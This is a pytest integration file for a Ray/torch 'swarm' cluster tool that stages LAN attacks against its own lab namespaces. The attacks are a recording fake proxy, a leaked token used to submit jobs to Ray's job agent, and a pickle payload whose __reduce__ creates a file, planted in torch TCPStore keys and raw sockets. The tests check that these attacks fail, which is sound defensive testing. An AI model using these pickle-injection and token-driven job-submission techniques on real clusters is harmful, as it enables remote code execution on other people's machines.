"""Attacks on a running swarm from the LAN: three namespace PCs after `swarm up`, and an outsider.

Hosts 1-3 form a swarm as ``configs/cluster-lab.yaml`` describes; host 4 is someone else's PC on
the same LAN. Each test is one attack of issue 32, in file order on one lab:

- a proxy that one PC's user has set (``http_proxy``/``https_proxy``) runs on host 4 and records
  everything sent to it: `swarm up` and `swarm status` work, and it receives no token;
- the outsider holds Ray's token (leaked from a PC) and asks every PC's dashboard agent to run
  a command (``POST :52365/api/job_agent/jobs/``, Ray's per-node job agent): nothing runs;
- during a two-PC training run (behind the same proxy), the outsider joins the run's
  rendezvous store and sends pickles to every port torch opened, each of which would create a
  file if anything unpickled it: no file appears, and the run ends cleanly or with one line;
- with the firewall of `swarm firewall --apply` on the PCs, it reaches none of those ports;
- a local user of a worker PC listening on 127.0.0.1:8265 (where Ray's dashboard agents post
  events, with the token) hears nothing;
- after `swarm token --rotate`, the old token opens nothing and the swarm runs on the new one.

Run alone with: python -m pytest -m integration tests/integration/test_cluster_attacks.py
This file is also the outsider's tools (``python THIS proxy|jobs|feed ...``).
"""

from __future__ import annotations

import json
import os
import pickle
import re
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
LAB_CONFIG = REPO / "configs" / "cluster-lab.yaml"
HEAD, W1, W2, OUTSIDER = 1, 2, 3, 4
SWARM = (HEAD, W1, W2)
ADDR = {i: f"198.18.0.{i}" for i in (1, 2, 3, 4)}
PROXY = f"http://{ADDR[OUTSIDER]}:3128"

pytestmark = [
    pytest.mark.integration,
    pytest.mark.timeout(900),
    pytest.mark.skipif(os.geteuid() != 0, reason="network namespaces need root"),
]


def proxied(lab, host: int, **extra) -> dict:
    """Host ``host``'s environment with every proxy variable pointing at the outsider."""
    return lab.env(host, http_proxy=PROXY, https_proxy=PROXY, HTTP_PROXY=PROXY, HTTPS_PROXY=PROXY,
                   all_proxy=PROXY, grpc_proxy=PROXY, **extra)


def start_agent(lab, host: int) -> subprocess.Popen:
    proc = lab.popen(host, [sys.executable, "-m", "swarm", "agent", "--listen", f"{ADDR[host]}:7077"],
                     lab.root / f"agent-h{host}.log", env=proxied(lab, host))
    deadline = time.monotonic() + 120
    while lab.swarm(host, "agent", "--health", "--address", f"{ADDR[host]}:7077", timeout=60).returncode != 0:
        assert proc.poll() is None and time.monotonic() < deadline, (lab.root / f"agent-h{host}.log").read_text()
        time.sleep(0.5)
    return proc


class Lab:
    def __init__(self, lab):
        self.lab = lab
        self.agents: dict[int, subprocess.Popen] = {}
        self.proxy_log = lab.root / "proxy.log"
        self.proxy: subprocess.Popen | None = None
        self.local_log = lab.root / "local-8265.log"
        self.local: subprocess.Popen | None = None

    def secret(self) -> str:
        return (self.lab.home(HEAD) / "secret").read_text().strip()

    def token(self) -> str:
        from swarm.cluster import keys

        return keys.ray_token(self.secret())


@pytest.fixture(scope="module")
def swarm_lab():
    from lab.netlab import NetLab, namespaces

    lab = NetLab(4)
    lab.create()
    s = Lab(lab)
    try:
        s.proxy = lab.popen(OUTSIDER, [sys.executable, __file__, "proxy", ADDR[OUTSIDER], "3128", str(s.proxy_log)],
                            lab.root / "proxy.out")
        assert lab.swarm(HEAD, "init").returncode == 0
        for host in (W1, W2):  # the user copies the secret by hand (scp), not through the swarm
            (lab.home(host) / "secret").write_bytes((lab.home(HEAD) / "secret").read_bytes())
            os.chmod(lab.home(host) / "secret", 0o600)
        # A local user of worker PC W1 listens where Ray's dashboard agents post their events.
        s.local = lab.popen(W1, [sys.executable, __file__, "proxy", "127.0.0.1", "8265", str(s.local_log)],
                            lab.root / "local.out")
        s.agents = {host: start_agent(lab, host) for host in SWARM}
        yield s
    finally:
        lab.destroy()
        assert not [ns for ns in namespaces() if ns.startswith(lab.tag + "-")], "namespaces left behind"


def proxy_received(s: Lab) -> bytes:
    return s.proxy_log.read_bytes() if s.proxy_log.exists() else b""


# --- 1. a proxy on the LAN ----------------------------------------------------------------------

def test_swarm_behind_a_proxy_works_and_sends_the_proxy_nothing(swarm_lab):
    s, lab = swarm_lab, swarm_lab.lab
    up = lab.swarm(HEAD, "up", str(LAB_CONFIG), timeout=400, env=proxied(lab, HEAD))
    assert up.returncode == 0, up.stdout + up.stderr
    status = lab.swarm(HEAD, "status", "--json", timeout=120, env=proxied(lab, HEAD))
    assert status.returncode == 0, status.stdout + status.stderr
    report = json.loads(status.stdout)
    assert report["error"] is None and [n["alive"] for n in report["nodes"]] == [True] * 3, report
    # The proxy works and records: a plain urllib call in the same environment reaches it.
    probe = lab.run(HEAD, [sys.executable, "-c", "import urllib.request as u\ntry: u.urlopen('http://198.18.0.1:9/canary', timeout=10)\n"
                           "except Exception as e: print(e)"], env=proxied(lab, HEAD))
    assert b"canary" in proxy_received(s), probe.stdout + probe.stderr
    assert s.token().encode() not in proxy_received(s)
    assert b"/api/" not in proxy_received(s)


# --- 2. a leaked token against every PC's job agent ---------------------------------------------

def test_a_leaked_token_runs_no_job_on_any_pc(swarm_lab):
    s, lab = swarm_lab, swarm_lab.lab
    marker = lab.root / "job-ran"
    r = lab.run(OUTSIDER, [sys.executable, __file__, "jobs", s.token(), str(marker), *(ADDR[h] for h in SWARM)],
                env=lab.env(OUTSIDER), timeout=120)
    assert r.returncode == 0, r.stderr
    answers = json.loads(r.stdout)
    time.sleep(5)  # a job that was accepted starts within a second or two
    assert not list(lab.root.glob("job-ran*")), answers
    for target, answer in answers.items():
        assert answer.startswith(("closed", "http 401", "http 403", "http 404")), (target, answer)


# --- 3. pickles into a training run -------------------------------------------------------------

def start_training(lab, folder: Path, model: Path) -> tuple[subprocess.Popen, dict[int, set[tuple[str, int]]], Path]:
    """Start `swarm train` on the head (behind the proxy); once both PCs train, the run,
    torch's listening sockets on each worker PC (address, port) and the run's log."""
    from trainkit import write_job

    from swarm.cluster import constants as C

    job = write_job(folder, model, train={"max_steps": 80, "grad_accum": 1, "eval_every": 100,
                    "checkpoint_every": 100}, ray={"address": f"{ADDR[HEAD]}:6379", "object_store_mb": 100})
    pinned = set(C.HEAD_PORTS) | set(range(C.RAY_MIN_WORKER_PORT, C.RAY_MAX_WORKER_PORT + 1)) | set(C.METRICS_PORTS)
    before = {h: set(lab.listening(h)) for h in (W1, W2)}
    log = folder / "train.log"
    train = lab.popen(HEAD, [sys.executable, "-m", "swarm", "train", str(job)], log, env=proxied(lab, HEAD))
    found: dict[int, set[tuple[str, int]]] = {W1: set(), W2: set()}
    deadline = time.monotonic() + 600
    while train.poll() is None and time.monotonic() < deadline:
        for h in (W1, W2):
            found[h] |= {(a, port) for a, port in set(lab.listening(h)) - before[h] if a not in ("127.0.0.1", "::1") and port not in pinned}
        # The store (rank 0's PC) and gloo's pairs on both PCs: wait for the first step's line.
        if all(found.values()) and re.search(r"^step \d+/", log.read_text(errors="replace"), re.M):
            break
        time.sleep(0.2)
    assert all(found.values()), (log.read_text()[-3000:], found)
    return train, found, log


def finish(train: subprocess.Popen, log: Path) -> tuple[int, str]:
    try:
        rc = train.wait(timeout=600)
    finally:
        if train.poll() is None:
            train.kill()
    return rc, log.read_text(errors="replace")


def test_an_outsider_feeding_pickles_to_a_training_run_runs_nothing(swarm_lab, tiny_models, tmp_path):
    s, lab = swarm_lab, swarm_lab.lab
    train, found, log = start_training(lab, tmp_path, tiny_models("llama"))
    # torch's sockets listen on the swarm's address only (the store: swarm binds it; gloo: GLOO_SOCKET_IFNAME).
    assert {a for h in (W1, W2) for a, _ in found[h]} <= {ADDR[W1], ADDR[W2]}, found
    marker = lab.root / "unpickled"
    targets = [f"{a}:{p}" for h in (W1, W2) for a, p in sorted(found[h])]
    fed = lab.run(OUTSIDER, [sys.executable, __file__, "feed", str(marker), *targets], env=lab.env(OUTSIDER), timeout=300)
    assert fed.returncode == 0, fed.stderr[-3000:]
    report = json.loads(fed.stdout)
    # Without a firewall, the store is open to the LAN.
    assert any(v.startswith("store joined") for v in report.values()), json.dumps([report, sorted(found[W1]), sorted(found[W2])])
    assert train.poll() is None, "the run ended before the attack did: it proves nothing"
    rc, text = finish(train, log)
    assert not list(lab.root.glob("unpickled*")), report
    if rc != 0:  # broken by forged bytes: one clear line, no traceback
        assert "Traceback" not in text and text.strip().splitlines()[-1].startswith("error: "), text[-3000:]
    else:
        assert text.strip().splitlines()[-1].startswith("run: "), text[-3000:]
    assert s.token().encode() not in proxy_received(s)


def test_with_the_firewall_the_outsider_reaches_no_port_of_the_run(swarm_lab, tiny_models, tmp_path):
    s, lab = swarm_lab, swarm_lab.lab
    for host in SWARM:  # what `launcher/bootstrap.sh --firewall` runs as root on every PC
        r = lab.swarm(host, "firewall", str(LAB_CONFIG), "--apply")
        assert r.returncode == 0, r.stdout + r.stderr
    try:
        train, found, log = start_training(lab, tmp_path, tiny_models("llama"))
        marker = lab.root / "unpickled-fw"
        targets = [f"{a}:{p}" for h in (W1, W2) for a, p in sorted(found[h])] + [f"{ADDR[h]}:{p}" for h in SWARM for p in (7077, 6380)]
        fed = lab.run(OUTSIDER, [sys.executable, __file__, "feed", str(marker), *targets], env=lab.env(OUTSIDER), timeout=300)
        assert fed.returncode == 0, fed.stderr[-3000:]
        report = json.loads(fed.stdout)
        assert all(v.startswith("no store") for v in report.values()), json.dumps(report)
        assert report.keys() == set(targets) and train.poll() is None
        rc, text = finish(train, log)
        assert rc == 0 and text.strip().splitlines()[-1].startswith("run: "), text[-3000:]
        assert not list(lab.root.glob("unpickled-fw*"))
    finally:
        for host in SWARM:
            lab.run(host, ["nft", "delete", "table", "inet", "swarm"])


# --- 4. a local user of a worker PC ---------------------------------------------------------------

def test_no_worker_pc_posts_rays_events_to_its_own_loopback(swarm_lab):
    """A worker's dashboard agent posts every Ray event of its PC, with the token, to the
    dashboard address Ray keeps (the head's 127.0.0.1:8265), which is the worker's own loopback:
    after bring-up, two training runs and a job attack, W1's listener there has heard nothing."""
    s, lab = swarm_lab, swarm_lab.lab
    assert s.local.poll() is None, (lab.root / "local.out").read_text()
    for host in (W1, W2):
        written = {p.name: p.stat().st_size for p in (lab.home(host) / "ray").glob("session_*/logs/events/*") if p.stat().st_size}
        assert written == {}, (host, written)
    assert s.local_log.exists() is False or s.local_log.read_bytes() == b"", s.local_log.read_bytes()[:300]


# --- 5. rotation ----------------------------------------------------------------------------------

def test_after_a_rotation_the_old_token_opens_nothing(swarm_lab):
    s, lab = swarm_lab, swarm_lab.lab
    old_secret, old_token = s.secret(), s.token()
    r = lab.swarm(HEAD, "token", "--rotate", timeout=400, env=proxied(lab, HEAD))
    assert r.returncode == 0, r.stdout + r.stderr
    assert s.secret() != old_secret
    for host in (W1, W2):  # re-keyed through their agents, not by hand
        assert (lab.home(host) / "secret").read_text().strip() == s.secret()
    status = lab.swarm(HEAD, "status", "--json", timeout=120)
    assert status.returncode == 0, status.stdout + status.stderr
    assert [n["alive"] for n in json.loads(status.stdout)["nodes"]] == [True] * 3
    # On the head itself (the dashboard listens on its loopback): old token refused, new one taken.
    for token, want in ((old_token, {"401", "403"}), (s.token(), {"200"})):
        got = lab.run(HEAD, [sys.executable, "-c", DASHBOARD_GET, "http://127.0.0.1:8265", token]).stdout.strip()
        assert got in want, (token == old_token, got)
    # A driver with the old token and the head's own (new) certificate: the GCS refuses it.
    code = f"import ray; ray.init(address='{ADDR[HEAD]}:6379'); print('CONNECTED')"
    tls_dir = lab.home(HEAD) / "tls"
    env = lab.env(HEAD, RAY_AUTH_MODE="token", RAY_AUTH_TOKEN=old_token, RAY_USE_TLS="1",
                  RAY_TLS_SERVER_CERT=str(tls_dir / "node.crt"), RAY_TLS_SERVER_KEY=str(tls_dir / "node.key"),
                  RAY_TLS_CA_CERT=str(tls_dir / "ca.crt"), RAY_gcs_server_port_wait_time_s="3",
                  RAY_gcs_rpc_server_reconnect_timeout_s="5")
    r = lab.run(HEAD, [sys.executable, "-c", code], env=env, timeout=180)
    assert r.returncode != 0 and "CONNECTED" not in r.stdout
    # The old secret signs nothing an agent accepts.
    old_home = lab.root / "old-home"
    old_home.mkdir(mode=0o700)
    (old_home / "secret").write_text(old_secret + "\n")
    os.chmod(old_home / "secret", 0o600)
    for host in SWARM:
        r = lab.swarm(OUTSIDER, "agent", "--health", "--address", f"{ADDR[host]}:7077", env=lab.env(OUTSIDER, SWARM_HOME=str(old_home)))
        assert r.returncode == 1 and "signed with a different cluster secret" in r.stderr, r.stderr
    r = lab.swarm(HEAD, "down", timeout=300)
    assert r.returncode == 0, r.stdout + r.stderr


DASHBOARD_GET = """
import sys, urllib.error, urllib.request
request = urllib.request.Request(sys.argv[1] + "/api/v0/nodes", headers={"Authorization": "Bearer " + sys.argv[2]})
try:
    print(urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=30).status)
except urllib.error.HTTPError as exc:
    print(exc.code)
"""


# --- the outsider's tools -------------------------------------------------------------------------

class _Creates:
    """Unpickling this creates the file ``path`` (and does nothing else)."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return open, (self.path, "w")


def proxy(host: str, port: int, log: str) -> None:
    """A "proxy" that records every byte it receives and answers 502 Bad Gateway."""
    server = socket.create_server((host, port))

    def serve(conn: socket.socket) -> None:
        with conn:
            conn.settimeout(5)
            try:
                data = conn.recv(65536)
                with open(log, "ab") as f:
                    f.write(data)
                conn.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            except OSError:
                pass

    while True:
        conn, _ = server.accept()
        threading.Thread(target=serve, args=(conn,), daemon=True).start()


def submit_jobs(token: str, marker: str, hosts: list[str]) -> dict[str, str]:
    """POST a job to every host's dashboard agent (52365) and to 8265, with the token."""
    import urllib.error
    import urllib.request

    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    out = {}
    for host in hosts:
        for port, path in ((52365, "/api/job_agent/jobs/"), (8265, "/api/jobs/")):
            body = json.dumps({"entrypoint": f"touch {marker}-{host}-{port}"}).encode()
            request = urllib.request.Request(f"http://{host}:{port}{path}", data=body, method="POST",
                                             headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"})
            try:
                with opener.open(request, timeout=20) as response:
                    out[f"{host}:{port}"] = f"ANSWERED {response.status} {response.read()[:200]!r}"
            except urllib.error.HTTPError as exc:
                out[f"{host}:{port}"] = f"http {exc.code}"
            except (urllib.error.URLError, OSError) as exc:
                out[f"{host}:{port}"] = f"closed ({getattr(exc, 'reason', exc)})"
    return out


def feed(marker: str, targets: list[str]) -> dict[str, str]:
    """Join every port as a torch store client and plant pickles; else send the pickle raw."""
    from datetime import timedelta

    import torch.distributed as dist

    from concurrent.futures import ThreadPoolExecutor

    out = {}

    def attack(n: int, target: str) -> None:  # all ports at once: the run must still be on
        host, port = target.rsplit(":", 1)
        payload = pickle.dumps(_Creates(f"{marker}-{n}"))
        try:
            with socket.create_connection((host, int(port)), timeout=3):
                pass  # a port the firewall drops: nothing answers (torch's client would retry for long)
            store = dist.TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=3), wait_for_workers=False)
        except Exception as exc:  # not a store: gloo's pairs, or refused
            store = None
            out[target] = f"no store ({str(exc).splitlines()[0][:100]})"
        if store is not None:
            keys = store.num_keys()
            # Keys a process group, an object collective or a rendezvous reads, and plain ranks.
            names = [str(i) for i in range(8)] + [f"rank_{i}" for i in range(8)] + [f"/default_pg/{i}" for i in range(8)]
            for name in names:
                store.set(name, payload)
            for i in range(8):
                store.add(f"swarm_attack_{i}", 1)
            out[target] = f"store joined ({keys} keys there), {len(names)} pickles planted"
        try:  # and the same bytes straight to the socket
            with socket.create_connection((host, int(port)), timeout=3) as sock:
                sock.sendall(payload * 64)
        except OSError:
            pass

    with ThreadPoolExecutor(max_workers=len(targets)) as pool:
        list(pool.map(attack, range(len(targets)), targets))
    return out


if __name__ == "__main__":
    verb, args = sys.argv[1], sys.argv[2:]
    if verb == "proxy":
        proxy(args[0], int(args[1]), args[2])
    elif verb == "jobs":
        print(json.dumps(submit_jobs(args[0], args[1], args[2:])))
    elif verb == "feed":
        print(json.dumps(feed(args[0], args[1:])))
